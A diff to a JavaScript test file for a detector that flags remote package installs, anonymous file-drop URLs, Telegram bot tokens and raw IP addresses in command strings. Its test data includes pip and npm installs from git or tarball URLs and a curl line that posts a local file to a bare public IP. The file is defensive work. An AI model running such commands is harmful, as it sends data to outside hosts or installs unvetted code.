@@ -28,6 +28,42 @@ describe('out-of-band and request-capture hosts', () => {
   })
 })
 
+describe('installs from outside the registry', () => {
+  it.each([
+    'pip install git+https://github.com/u/second.git',
+    'python3 -m pip install -q git+{url}',
+    'pip3 install --user https://files.example.net/dist/second-1.0.tar.gz',
+    'uv pip install "git+ssh://git@example.com/u/r.git"',
+    'npm install github:u/second',
+    'npm i --no-save https://cdn.example.net/second-1.0.0.tgz',
+    'yarn add git+https://example.com/u/r.git',
+  ])('%s is a remote install', (command) => {
+    expect(kinds(command)).toContain('remote-install')
+  })
+
+  it.each(['pip install -r requirements.txt', 'pip install requests==2.31.0', 'pip install --index-url https://pypi.org/simple extra', 'npm install lodash', 'npm i -D typescript', 'pip install ./dist/pkg.tar.gz'])(
+    '%s installs from an index or the package itself',
+    (command) => {
+      expect(kinds(command)).not.toContain('remote-install')
+    },
+  )
+})
+
+describe('anonymous file drops', () => {
+  it.each(['https://filebin.net/73dsd8rx20iqw0sf/data.json', 'https://files.catbox.moe/abc123.zip', 'https://pixeldrain.com/api/file/AbCd', 'https://tmpfiles.org/dl/123/x.txt'])('%s is a paste or file drop', (url) => {
+    expect(kinds(url)).toContain('paste-site')
+  })
+})
+
+describe("a Telegram bot's token", () => {
+  it('is a drop box, as a webhook URL is; other numbers with a colon are not', () => {
+    expect(kinds('bot = Bot("1234567890:AAE_synthetic0token0for0the0tests0x")')).toContain('webhook')
+    expect(kinds('1234567890:AAE_synthetic0token0for0the0tests0x_longer')).not.toContain('webhook')
+    expect(kinds('12:AAE_synthetic0token0for0the0tests0x')).not.toContain('webhook')
+    expect(kinds('sha256:AAE_synthetic0token0for0the0tests0x')).not.toContain('webhook')
+  })
+})
+
 describe('raw addresses', () => {
   it('counts a bare public address a network tool is given, with or without a port', () => {
     expect(kinds('curl -F a=@/flag 114.115.142.57:10113')).toContain('raw-ip-url')
